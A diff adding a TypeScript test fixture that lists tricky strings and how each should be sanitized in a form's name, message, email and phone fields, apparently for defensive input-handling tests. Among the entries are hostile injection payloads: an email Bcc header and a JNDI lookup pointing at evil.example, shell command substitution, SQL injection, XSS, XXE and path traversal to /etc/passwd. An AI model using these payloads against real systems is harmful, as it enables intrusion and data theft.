@@ -1,0 +1,103 @@
+/**
+ * Kinds of text, and what becomes of each in the three kinds of fields. It stands between letters (or digits, in a phone
+ * number), so that nothing is trimmed away, unless `whole` says that it is all there is.
+ */
+export interface StringClass {
+  name: string;
+  text: string;
+  /** In names; otherwise as it is. */
+  line?: string;
+  /** In the message; otherwise as it is. */
+  block?: string;
+  /** In the address: `refused` for what has a blank or a second at sign in it, `kept` as it is, or another text. */
+  email: 'refused' | 'kept' | { becomes: string };
+  /** In the phone number, which takes digits alone: `clean` where nothing is left of it. */
+  phone?: 'clean';
+  /** The bytes of a form, where text cannot be written as UTF-8 at all. */
+  notUtf8?: string;
+}
+
+/** What comes to nothing at all. */
+const gone = { line: '', block: '', email: { becomes: '' }, phone: 'clean' } as const;
+/** What ends a line: a blank in names. */
+const lineEnd = { line: ' ', block: '\n', email: 'refused' } as const;
+const blank = { email: 'refused' } as const;
+const kept = { email: 'kept' } as const;
+const replaced = { line: '\ufffd', block: '\ufffd', email: { becomes: '\ufffd' } } as const;
+
+export const stringClasses: StringClass[] = [
+  { name: 'NUL', text: '\0', ...gone },
+  { name: 'C0 controls', text: '\u0001\u0007\b\u000e\u001a\u001f', ...gone },
+  { name: 'DEL and C1 controls', text: '\u007f\u0080\u0084\u0086\u009f', ...gone },
+  { name: 'a terminal command', text: '\u001b[2J\u001b]0;x\u0007', line: '[2J]0;x', block: '[2J]0;x', email: { becomes: '[2J]0;x' } },
+  { name: 'CRLF', text: '\r\n', ...lineEnd },
+  { name: 'a bare CR', text: '\r', ...lineEnd },
+  { name: 'a bare LF', text: '\n', ...lineEnd },
+  { name: 'NEL', text: '\u0085', ...lineEnd },
+  { name: 'a line separator', text: '\u2028', ...lineEnd },
+  { name: 'a paragraph separator', text: '\u2029', ...lineEnd },
+  { name: 'vertical tab and form feed', text: '\v\f', line: ' ', block: '\n\n', email: 'refused' },
+  { name: 'a tab', text: '\t', line: ' ', block: '\t', email: 'refused' },
+  { name: 'a header of its own', text: '\r\nBcc: all@evil.example\r\n\r\n', line: ' Bcc: all@evil.example ', block: '\nBcc: all@evil.example\n\n', email: 'refused' },
+  { name: 'a forged log line', text: '\n{"level":60,"msg":"stopped"}\n', line: ' {"level":60,"msg":"stopped"} ', block: '\n{"level":60,"msg":"stopped"}\n', email: 'refused' },
+  { name: 'a lone high surrogate', text: '\ud83d', ...replaced, notUtf8: '%ED%A0%BD' },
+  { name: 'a lone low surrogate', text: '\ude00', ...replaced, notUtf8: '%ED%B8%80' },
+  { name: 'a pair the wrong way round', text: '\ude00\ud83d', line: '\ufffd\ufffd', block: '\ufffd\ufffd', email: { becomes: '\ufffd\ufffd' }, notUtf8: '%ED%B8%80%ED%A0%BD' },
+  { name: 'right-to-left override', text: '\u202egnp.exe\u202c', ...kept },
+  { name: 'bidirectional isolates', text: '\u2066x\u2067y\u2068z\u2069', ...kept },
+  { name: 'direction marks', text: '\u200e\u200f\u061c', ...kept },
+  { name: 'zero-width space and joiners', text: '\u200b\u200c\u200d\u2060', ...kept },
+  { name: 'soft hyphen', text: '\u00ad', ...kept },
+  { name: 'byte order mark inside', text: '\ufeff', ...blank },
+  { name: 'no-break space', text: '\u00a0', ...blank },
+  { name: 'ideographic and em space', text: '\u3000\u2003', ...blank },
+  { name: 'tag characters', text: '\u{e0041}\u{e007f}', ...kept },
+  { name: 'variation selectors', text: '\u2764\ufe0f\ufe0e', ...kept },
+  { name: 'noncharacters', text: '\ufffe\uffff\u{1fffe}\ufdd0', ...kept },
+  { name: 'private use', text: '\ue000\u{10fffd}', ...kept },
+  { name: 'object replacement', text: '\ufffc\ufff9\ufffb', ...kept },
+  { name: 'a flood of combining marks', text: `e${'\u0301'.repeat(60)}`, line: `é${'\u0301'.repeat(59)}`, block: `é${'\u0301'.repeat(59)}`, email: { becomes: `é${'\u0301'.repeat(59)}` } },
+  { name: 'decomposed letters', text: 'e\u0301n\u0303', line: 'éñ', block: 'éñ', email: { becomes: 'éñ' } },
+  { name: 'marks in another order', text: 'q\u0307\u0323', line: 'q\u0323\u0307', block: 'q\u0323\u0307', email: { becomes: 'q\u0323\u0307' } },
+  { name: 'Korean in pieces', text: '\u1112\u1161\u11ab', line: '한', block: '한', email: { becomes: '한' } },
+  { name: 'a sign with a twin', text: '\u212b\u2126', line: 'ÅΩ', block: 'ÅΩ', email: { becomes: 'ÅΩ' } },
+  { name: 'letters that grow when composed', text: '\u{1d160}\ufb1d', line: '\u{1d158}\u{1d165}\u{1d16e}\u05d9\u05b4', block: '\u{1d158}\u{1d165}\u{1d16e}\u05d9\u05b4', email: { becomes: '\u{1d158}\u{1d165}\u{1d16e}\u05d9\u05b4' } },
+  { name: 'compatibility forms', text: 'ﬁ①Ⅷ㎏', ...kept },
+  { name: 'full-width letters', text: 'ＡＢ＠', ...kept },
+  { name: 'look-alikes of Latin', text: 'аррӏе', ...kept },
+  { name: 'Arabic with its marks', text: 'مُحَمَّد', ...kept },
+  { name: 'Arabic digits', text: '٠١٢٣', ...kept },
+  { name: 'Hebrew and Latin mixed', text: 'שלוםabc', ...kept },
+  { name: 'Devanagari clusters', text: 'क्षि', ...kept },
+  { name: 'Thai with stacked marks', text: 'ด้้้้้็็็็็', ...kept },
+  { name: 'emoji beyond the first plane', text: '😀🤖', ...kept },
+  { name: 'a family of joined emoji', text: '👩‍👩‍👧‍👦', ...kept },
+  { name: 'a flag and half a flag', text: '🇱🇧🇱', ...kept },
+  { name: 'skin tones', text: '👋🏽🏽', ...kept },
+  { name: 'SQL that ends the statement', text: "'); DROP TABLE leads;--", ...blank },
+  { name: 'SQL without blanks', text: "'/**/or/**/1=1--", ...kept },
+  { name: 'SQL wild cards', text: '%_\\', ...kept },
+  { name: 'placeholders of queries', text: '$1?:name', ...kept },
+  { name: 'a Postgres escape', text: String.raw`E'\x00'::bytea`, ...kept },
+  { name: 'a script element', text: '<script>alert(1)</script>', ...kept },
+  { name: 'the end of an attribute', text: '"onfocus="alert(1)"autofocus="', ...kept },
+  { name: 'the end of the text area', text: '</textarea></title><svg/onload=alert(1)>', ...kept },
+  { name: 'character references', text: '&lt;b&gt;&#0;&amp;', ...kept },
+  { name: 'a comment and a CDATA section', text: '<!--<![CDATA[]]>-->', ...kept },
+  { name: 'an address that runs', text: 'javascript:alert(1)', ...kept },
+  { name: 'templates of many languages', text: '{{7*7}}${7*7}<%=7*7%>#{7*7}{reference}', ...kept },
+  { name: 'special replacement patterns', text: '$&$`$\'$$', ...kept },
+  { name: 'lookups', text: '${jndi:ldap://evil.example/a}', ...kept },
+  { name: 'a shell command', text: '`id`$(id)|id;id&&id', ...kept },
+  { name: 'a path', text: '../../../etc/passwd', ...kept },
+  { name: 'a Windows path', text: String.raw`..\..\C:\boot.ini`, ...kept },
+  { name: 'format letters', text: '%s%n%x%d', ...kept },
+  { name: 'percent escapes', text: '%00%0d%0a%u0000', ...kept },
+  { name: 'escapes that are letters', text: String.raw`\u0000\x00\r\n`, ...kept },
+  { name: 'JSON', text: '"},{"first_name":"x', ...kept },
+  { name: 'a query of a document store', text: '{"$gt":""}', ...kept },
+  { name: 'an LDAP filter', text: '*)(uid=*))(|(uid=*', ...kept },
+  { name: 'an XML entity', text: '<!DOCTYPE/**/x[<!ENTITY/**/e/**/SYSTEM"file:///etc/passwd">]>&e;', ...kept },
+  { name: 'an expression that takes long to match', text: 'a'.repeat(70), ...kept },
+  { name: 'separators of a form', text: '&first_name=Eve&=;+', ...kept },
+];
